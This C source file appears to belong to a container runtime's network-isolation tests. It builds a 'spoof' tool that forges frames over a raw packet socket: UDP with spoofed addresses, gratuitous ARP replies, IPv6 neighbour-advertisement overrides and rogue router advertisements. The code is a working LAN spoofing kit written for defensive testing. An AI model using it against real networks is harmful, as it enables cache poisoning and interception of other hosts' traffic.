/*
 * Forged frames from inside a container, as a hostile process with CAP_NET_RAW (which containers keep,
 * as under Docker) sends them on eth0 through a packet socket. Prints "sent ..." once they are out;
 * whether they arrive is for the test's listener to say (tests/network.rs).
 *   spoof udp ETH_SRC ETH_DST IP_SRC IP_DST PORT TEXT   a UDP datagram carrying TEXT
 *   spoof garp ETH_SRC IP                               a gratuitous ARP reply: "IP is at ETH_SRC"
 *   spoof udp6 ETH_SRC ETH_DST IP6_SRC IP6_DST PORT TEXT   a UDP datagram over IPv6 carrying TEXT
 *   spoof na ETH_SRC IP6_SRC TARGET                     an unsolicited neighbour advertisement to all
 *                                                       nodes: "TARGET is at ETH_SRC" (override)
 *   spoof ra ETH_SRC IP6_SRC                            a router advertisement to all nodes: "I am
 *                                                       a default router"
 * ETH_SRC may be "self" (eth0's own MAC). Each frame is sent three times.
 * Built statically by tests/attack/build.sh (the test images have no libc).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define IFACE "eth0"

static void die(const char *what) {
  printf("%s errno %d (%s)\n", what, errno, strerror(errno));
  exit(1);
}

static void parse_mac(int sock, const char *text, uint8_t mac[ETH_ALEN]) {
  if (strcmp(text, "self") == 0) {
    struct ifreq req = {0};
    strncpy(req.ifr_name, IFACE, IFNAMSIZ - 1);
    if (ioctl(sock, SIOCGIFHWADDR, &req) < 0)
      die("SIOCGIFHWADDR");
    memcpy(mac, req.ifr_hwaddr.sa_data, ETH_ALEN);
    return;
  }
  unsigned b[ETH_ALEN];
  if (sscanf(text, "%x:%x:%x:%x:%x:%x", &b[0], &b[1], &b[2], &b[3], &b[4], &b[5]) != ETH_ALEN) {
    fprintf(stderr, "not a MAC: %s\n", text);
    exit(2);
  }
  for (int i = 0; i < ETH_ALEN; i++)
    mac[i] = (uint8_t)b[i];
}

static struct in_addr parse_ip(const char *text) {
  struct in_addr a;
  if (inet_pton(AF_INET, text, &a) != 1) {
    fprintf(stderr, "not an IPv4 address: %s\n", text);
    exit(2);
  }
  return a;
}

static struct in6_addr parse_ip6(const char *text) {
  struct in6_addr a;
  if (inet_pton(AF_INET6, text, &a) != 1) {
    fprintf(stderr, "not an IPv6 address: %s\n", text);
    exit(2);
  }
  return a;
}

static uint32_t sum_words(const void *data, size_t len, uint32_t sum) {
  const uint16_t *words = data;
  for (; len > 1; len -= 2)
    sum += *words++;
  if (len)
    sum += *(const uint8_t *)words;
  return sum;
}

static uint16_t fold(uint32_t sum) {
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

static uint16_t checksum(const void *data, size_t len) { return fold(sum_words(data, len, 0)); }

/* UDP and ICMPv6 over IPv6 sum a pseudo-header: addresses, length, next header. */
static uint16_t checksum6(const struct ip6_hdr *ip, const void *payload, size_t len) {
  uint32_t sum = sum_words(&ip->ip6_src, 32, 0);
  sum += htons((uint16_t)len);
  sum += htons(ip->ip6_nxt);
  return fold(sum_words(payload, len, sum));
}

static void send_frame(int sock, const void *frame, size_t len) {
  struct sockaddr_ll to = {
      .sll_family = AF_PACKET,
      .sll_ifindex = (int)if_nametoindex(IFACE),
      .sll_halen = ETH_ALEN,
  };
  memcpy(to.sll_addr, frame, ETH_ALEN);
  for (int i = 0; i < 3; i++) {
    if (sendto(sock, frame, len, 0, (struct sockaddr *)&to, sizeof to) < 0)
      die("sendto");
    usleep(20 * 1000);
  }
}

static int send_udp(int sock, char **argv) {
  uint8_t frame[1514] = {0};
  struct ether_header *eth = (struct ether_header *)frame;
  struct iphdr *ip = (struct iphdr *)(eth + 1);
  struct udphdr *udp = (struct udphdr *)(ip + 1);
  size_t text_len = strlen(argv[7]);
  if (text_len > 1000)
    text_len = 1000;
  memcpy(udp + 1, argv[7], text_len);

  parse_mac(sock, argv[2], eth->ether_shost);
  parse_mac(sock, argv[3], eth->ether_dhost);
  eth->ether_type = htons(ETHERTYPE_IP);
  udp->source = htons(40000);
  udp->dest = htons((uint16_t)atoi(argv[6]));
  udp->len = htons((uint16_t)(sizeof *udp + text_len));
  udp->check = 0; /* optional in IPv4 */
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons((uint16_t)(sizeof *ip + sizeof *udp + text_len));
  ip->saddr = parse_ip(argv[4]).s_addr;
  ip->daddr = parse_ip(argv[5]).s_addr;
  ip->check = checksum(ip, sizeof *ip);
  send_frame(sock, frame, sizeof *eth + sizeof *ip + sizeof *udp + text_len);
  printf("sent udp\n");
  return 0;
}

static int send_garp(int sock, char **argv) {
  struct {
    struct ether_header eth;
    struct ether_arp arp;
  } __attribute__((packed)) frame = {0};
  struct in_addr ip = parse_ip(argv[3]);
  parse_mac(sock, argv[2], frame.eth.ether_shost);
  memset(frame.eth.ether_dhost, 0xff, ETH_ALEN);
  frame.eth.ether_type = htons(ETHERTYPE_ARP);
  frame.arp.arp_hrd = htons(ARPHRD_ETHER);
  frame.arp.arp_pro = htons(ETHERTYPE_IP);
  frame.arp.arp_hln = ETH_ALEN;
  frame.arp.arp_pln = 4;
  frame.arp.arp_op = htons(ARPOP_REPLY);
  memcpy(frame.arp.arp_sha, frame.eth.ether_shost, ETH_ALEN);
  memcpy(frame.arp.arp_spa, &ip, 4);
  /* Target = sender, as Linux wants of a gratuitous reply before it overrides an entry at once. */
  memcpy(frame.arp.arp_tha, frame.eth.ether_shost, ETH_ALEN);
  memcpy(frame.arp.arp_tpa, &ip, 4);
  send_frame(sock, &frame, sizeof frame);
  printf("sent garp\n");
  return 0;
}

/* An IPv6 frame: Ethernet and IPv6 headers filled in; the caller writes `len` bytes of payload after them. */
static struct ip6_hdr *ipv6_frame(int sock, uint8_t *frame, const char *eth_src, const char *eth_dst,
                                  const char *src, const char *dst, uint8_t next, size_t len) {
  struct ether_header *eth = (struct ether_header *)frame;
  struct ip6_hdr *ip = (struct ip6_hdr *)(eth + 1);
  parse_mac(sock, eth_src, eth->ether_shost);
  parse_mac(sock, eth_dst, eth->ether_dhost);
  eth->ether_type = htons(ETHERTYPE_IPV6);
  ip->ip6_flow = htonl(6u << 28);
  ip->ip6_plen = htons((uint16_t)len);
  ip->ip6_nxt = next;
  ip->ip6_hlim = 255; /* what neighbour discovery demands */
  ip->ip6_src = parse_ip6(src);
  ip->ip6_dst = parse_ip6(dst);
  return ip;
}

static int send_udp6(int sock, char **argv) {
  uint8_t frame[1514] = {0};
  size_t text_len = strlen(argv[7]);
  if (text_len > 1000)
    text_len = 1000;
  size_t len = sizeof(struct udphdr) + text_len;
  struct ip6_hdr *ip = ipv6_frame(sock, frame, argv[2], argv[3], argv[4], argv[5], IPPROTO_UDP, len);
  struct udphdr *udp = (struct udphdr *)(ip + 1);
  memcpy(udp + 1, argv[7], text_len);
  udp->source = htons(40000);
  udp->dest = htons((uint16_t)atoi(argv[6]));
  udp->len = htons((uint16_t)len);
  udp->check = checksum6(ip, udp, len); /* mandatory in IPv6 */
  send_frame(sock, frame, sizeof(struct ether_header) + sizeof *ip + len);
  printf("sent udp6\n");
  return 0;
}

/* To all nodes: ff02::1 at 33:33:00:00:00:01. */
#define ALL_NODES "ff02::1"
#define ALL_NODES_MAC "33:33:00:00:00:01"

static int send_na(int sock, char **argv) {
  uint8_t frame[256] = {0};
  struct {
    struct nd_neighbor_advert na;
    struct nd_opt_hdr opt;
    uint8_t mac[ETH_ALEN];
  } __attribute__((packed)) *msg;
  size_t len = sizeof *msg;
  struct ip6_hdr *ip = ipv6_frame(sock, frame, argv[2], ALL_NODES_MAC, argv[3], ALL_NODES, IPPROTO_ICMPV6, len);
  msg = (void *)(ip + 1);
  msg->na.nd_na_type = ND_NEIGHBOR_ADVERT;
  msg->na.nd_na_flags_reserved = ND_NA_FLAG_OVERRIDE;
  msg->na.nd_na_target = parse_ip6(argv[4]);
  msg->opt.nd_opt_type = ND_OPT_TARGET_LINKADDR;
  msg->opt.nd_opt_len = 1;
  parse_mac(sock, argv[2], msg->mac);
  msg->na.nd_na_cksum = checksum6(ip, msg, len);
  send_frame(sock, frame, sizeof(struct ether_header) + sizeof *ip + len);
  printf("sent na\n");
  return 0;
}

static int send_ra(int sock, char **argv) {
  uint8_t frame[256] = {0};
  size_t len = sizeof(struct nd_router_advert);
  struct ip6_hdr *ip = ipv6_frame(sock, frame, argv[2], ALL_NODES_MAC, argv[3], ALL_NODES, IPPROTO_ICMPV6, len);
  struct nd_router_advert *ra = (void *)(ip + 1);
  ra->nd_ra_type = ND_ROUTER_ADVERT;
  ra->nd_ra_curhoplimit = 64;
  ra->nd_ra_router_lifetime = htons(1800);
  ra->nd_ra_cksum = checksum6(ip, ra, len);
  send_frame(sock, frame, sizeof(struct ether_header) + sizeof *ip + len);
  printf("sent ra\n");
  return 0;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  int sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (sock < 0)
    die("socket");
  if (argc == 8 && strcmp(argv[1], "udp") == 0)
    return send_udp(sock, argv);
  if (argc == 4 && strcmp(argv[1], "garp") == 0)
    return send_garp(sock, argv);
  if (argc == 8 && strcmp(argv[1], "udp6") == 0)
    return send_udp6(sock, argv);
  if (argc == 5 && strcmp(argv[1], "na") == 0)
    return send_na(sock, argv);
  if (argc == 4 && strcmp(argv[1], "ra") == 0)
    return send_ra(sock, argv);
  fprintf(stderr, "usage: spoof udp ETH_SRC ETH_DST IP_SRC IP_DST PORT TEXT | garp ETH_SRC IP\n"
                  "     | udp6 ETH_SRC ETH_DST IP6_SRC IP6_DST PORT TEXT | na ETH_SRC IP6_SRC TARGET\n"
                  "     | ra ETH_SRC IP6_SRC\n");
  return 2;
}
